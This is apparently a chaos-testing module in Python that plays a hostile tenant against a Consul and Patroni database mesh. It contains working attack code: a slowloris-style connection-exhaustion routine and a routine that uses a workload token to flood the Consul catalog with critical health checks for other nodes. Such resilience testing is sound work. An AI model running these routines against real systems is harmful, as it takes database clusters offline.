"""What a hostile application tries on a database of its mesh, for chaos. IO: sockets, Consul.

Each attack is bounded in time and in number, and tells what it achieved: an attack that could not even begin shows
nothing.
"""

from __future__ import annotations

import contextlib
import json
import socket
import time
import urllib.error
import urllib.request
from collections.abc import Sequence
from pathlib import Path
from typing import Any

CONSUL = "http://127.0.0.1:8500"
"""Where a workload that keeps its registration itself finds Consul; in other CVMs nobody listens."""
TOKEN = Path("/run/mesh/secrets/consul-token")
HALF = b"GET /patroni HTTP/1.1\r\nHost: x\r\n"
"""A request without its end: a server with a thread for each connection waits for the rest."""
CONNECT_SECONDS = 1.0
REFILL_SECONDS = 0.2
"""Between two looks at which half-sent requests were ended, so that others take their place."""
WRITE_SECONDS = 0.05
"""Between two rounds of writes to the catalog."""
_HTTP_SECONDS = 2.0


def occupy(targets: Sequence[tuple[str, int]], each: int, seconds: float) -> dict[str, int]:
    """Holds `each` half-sent requests at every target for that time; `host:port` → the most that were held at once."""
    held: dict[tuple[str, int], list[socket.socket]] = {(host, port): [] for host, port in targets}
    most = dict.fromkeys(held, 0)
    end = time.monotonic() + seconds
    try:
        while time.monotonic() < end:
            for target, sockets in held.items():
                sockets[:] = [one for one in sockets if _is_open(one)]
                while len(sockets) < each and time.monotonic() < end:
                    opened = _half_request(target)
                    if opened is None:
                        break
                    sockets.append(opened)
                most[target] = max(most[target], len(sockets))
            time.sleep(REFILL_SECONDS)
    finally:
        for sockets in held.values():
            for one in sockets:
                one.close()
    return {f"{host}:{port}": number for (host, port), number in most.items()}


def _half_request(target: tuple[str, int]) -> socket.socket | None:
    opened = None
    try:
        opened = socket.create_connection(target, timeout=CONNECT_SECONDS)
        opened.sendall(HALF)
        opened.setblocking(False)
    except OSError:
        if opened is not None:
            opened.close()
        return None
    return opened


def _is_open(one: socket.socket) -> bool:
    try:
        if one.recv(1, socket.MSG_PEEK):
            return True
    except BlockingIOError:
        return True
    except OSError:
        pass
    one.close()
    return False


def poison(nodes: Sequence[str], seconds: float) -> dict[str, int]:
    """Writes failing checks with every ID that it can read, and the guessable ones, onto `nodes`, again and again.

    With the token of its CVM's workload, if there is one. `written` and `refused` count answers, `checks` the IDs that
    were read.
    """
    own = next(iter(_get("/v1/agent/services") or {}), "")
    service = (_get(f"/v1/agent/service/{own}") or {}).get("Service", "") if own else ""
    counts = {"written": 0, "refused": 0, "checks": 0}
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        for node in nodes:
            address = _address(node)
            found = _get(f"/v1/health/node/{node}") or []
            known = {str(check["CheckID"]) for check in found if isinstance(check, dict) and "CheckID" in check}
            counts["checks"] = max(counts["checks"], len(known))
            for check in sorted(known | {"serfHealth", f"{node}:member"}):
                done = _put("/v1/catalog/register", _registration(node, address, own, service, check))
                counts["written" if done else "refused"] += 1
        time.sleep(WRITE_SECONDS)
    return counts


def _registration(node: str, address: str, service_id: str, service: str, check: str) -> dict[str, Any]:
    return {
        "Node": node,
        "Address": address,
        "SkipNodeUpdate": True,
        "Service": {"ID": service_id, "Service": service, "Port": 1},
        "Check": {"CheckID": check, "Name": "serfHealth", "Status": "critical", "ServiceID": service_id},
    }


def _address(node: str) -> str:
    tree = _get(f"/v1/catalog/node/{node}")
    with contextlib.suppress(KeyError, TypeError):
        return str(tree["Node"]["Address"])
    return "127.0.0.1"


def _request(path: str, data: bytes | None = None) -> urllib.request.Request:
    token = TOKEN.read_text(encoding="utf-8").strip() if TOKEN.exists() else ""
    headers = {"X-Consul-Token": token} if token else {}
    return urllib.request.Request(f"{CONSUL}{path}", data, headers, method="GET" if data is None else "PUT")


def _get(path: str) -> Any:
    try:
        with urllib.request.urlopen(_request(path), timeout=_HTTP_SECONDS) as answer:
            return json.load(answer)
    except (OSError, ValueError):
        return None


def _put(path: str, body: dict[str, Any]) -> bool:
    try:
        with urllib.request.urlopen(_request(path, json.dumps(body).encode()), timeout=_HTTP_SECONDS):
            return True
    except (OSError, ValueError, urllib.error.HTTPError):
        return False
